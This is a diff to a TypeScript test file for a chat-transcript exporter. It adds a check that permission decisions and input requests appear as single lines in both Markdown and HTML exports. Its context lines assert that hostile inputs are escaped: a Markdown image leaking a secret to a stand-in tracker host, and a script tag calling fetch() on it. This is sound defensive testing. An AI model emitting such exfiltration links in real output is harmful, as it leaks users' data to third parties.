@@ -3,6 +3,7 @@ import MarkdownIt from 'markdown-it';
 import { describe, expect, it } from 'vitest';
 import { readJournalEvent } from '../../common/events.js';
 import { renderHtml, renderMarkdown, type TranscriptEvent, type TranscriptMeta } from '../../main/export/transcript.js';
+import { ASKED, asHtml } from '../support/decisions.js';
 import { firstUnsafe, HOSTILE_MARKDOWN, HOSTILE_SHORT, HOSTILE_TEXT, hostileEvents } from '../support/hostile.js';
 
 const META: TranscriptMeta = { title: 'chat', conversationId: '00000000-0000-4000-8000-000000000001', agent: 'helper v1', exportedAt: '2026-03-01T12:00:00.000Z', events: 1, chainHead: 'a'.repeat(64), uncertainRuns: [] };
@@ -52,5 +53,16 @@ describe('transcripts (D1)', () => {
     // What the model wrote is there to read, as text.
     expect(rendered).toContain('![](https://tracker.example/p.png?leak=secret) [click](https://tracker.example/c) &lt;https://tracker.example/auto&gt;\nhttps://tracker.example/bare');
     expect(rendered).toContain('&lt;script&gt;fetch(&quot;https://tracker.example/s&quot;)&lt;/script&gt;');
+  });
+
+  it('test_every_permission_decision_and_request_for_input_is_one_line_in_wards_words_where_it_happened_in_both_transcripts', () => {
+    const events = transcriptEvents([{ type: 'user_prompt', payload: { text: 'Tidy the notes' } }, ...ASKED.map(({ event }) => event), { type: 'assistant_text', payload: { text: 'Done.' } }]);
+    const { markdown, html } = both(META, events);
+    const body = markdown.split('```\nTidy the notes\n```\n')[1]!.split('\n### Agent')[0]!;
+    expect(body.split('\n').filter((line) => line !== '')).toEqual(ASKED.map(({ line }) => line));
+    const htmlLines = [...html.matchAll(/<p class="entry asked">(.*?)<\/p>/g)].map((match) => match[1]);
+    expect(htmlLines).toEqual(ASKED.map(({ line }) => asHtml(line)));
+    expect(html.indexOf('Tidy the notes')).toBeLessThan(html.indexOf('entry asked'));
+    expect(html.lastIndexOf('entry asked')).toBeLessThan(html.indexOf('Done.'));
   });
 });
